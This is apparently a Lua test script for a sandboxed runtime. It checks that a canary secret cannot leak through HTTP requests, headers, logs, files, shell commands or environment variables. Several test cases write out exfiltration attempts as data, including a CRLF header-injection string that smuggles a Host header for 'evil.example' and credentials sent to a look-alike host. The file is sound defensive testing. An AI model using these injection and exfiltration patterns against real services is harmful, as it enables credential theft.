-- expect: contained
-- profiles: low medium
-- A secret is given to everything that takes something, and taken to pieces.
local ok, secret = pcall(function() return Secrets.get("canary") end)
if not ok then -- nobody has granted it
  assert(secret.kind == "permission", secret)
  return "contained"
end

local function refused(fn, ...)
  local done, found = pcall(fn, ...)
  assert(not done, "it went through")
  assert(not tostring(found):find("sk-canary", 1, true), "it was told")
end

local function url(path) return "http://127.0.0.1:9/" .. path end
for _, tried in ipairs {
  function() return "Bearer " .. secret end, function() return #secret end, function() return secret .. secret end,
  function() return secret.value end, function() return secret.name end, function() secret.secret_name = "x" end,
  function() return secret() end, function() return secret + 1 end, function() return Json.encode(secret) end,
  function() return Json.encode { a = { secret } } end, function() return State.set("k", secret) end,
  function() return State.set(secret, 1) end, function() return ask(secret) end, function() return say(secret) end,
  function() return ask("x", { system = secret }) end, function() return Fs.write("x", secret) end,
  function() return Fs.read(secret) end, function() return Event.emit("x", secret) end,
  function() return Probe.echo { secret } end, function() return Http.get(secret) end,
  function() return Http.get(url("?q="), { query = { q = secret } }) end,
  function() return Http.post(url(""), { body = secret }) end, function() return Http.post(url(""), { json = secret }) end,
  function() return Http.post(url(""), { form = { a = secret } }) end,
  function() return Http.get(url(""), { headers = { a = { secret, "x" } } }) end,
  function() return Http.get(url(""), { headers = { a = { "x\r\nHost: evil.example\r\nY: ", secret } } }) end,
  function() return Http.get(url(""), { headers = { ["a\nb"] = secret } }) end,
  function() return Http.get(url(""), { headers = { Host = secret } }) end,
  function() return Http.get(url(""), { headers = { Cookie = secret }, auth = secret, to = secret }) end,
  function() return Http.get("http://example.com/", { auth = secret }) end,
  function() return Http.get("http://127.0.0.1.evil.example/", { auth = secret }) end,
  function() return Http.get("https://me@127.0.0.1/", { auth = secret }) end,
  function() return Http.get(url(""), { auth = { user = "a\nb", password = secret } }) end,
  function() return System.run { "echo", secret } end, function() return System.run("cat", { input = secret }) end,
  function() return System.run("true", { env = { X = secret } }) end, function() return System.env(secret) end,
  function() return Secrets.get(secret) end, function() return fail(secret) end,
} do
  refused(tried)
end

print(secret, tostring(secret), ("%s"):format(secret))
Log.info("it is " .. tostring(secret))
for key, value in pairs(secret) do print(key, value) end
assert(rawget(secret, 1) == nil and next(secret) == nil and getmetatable(secret) == false)
assert(tostring(secret) == "[secret:canary]" and not pcall(setmetatable, secret, {}))
return "contained"
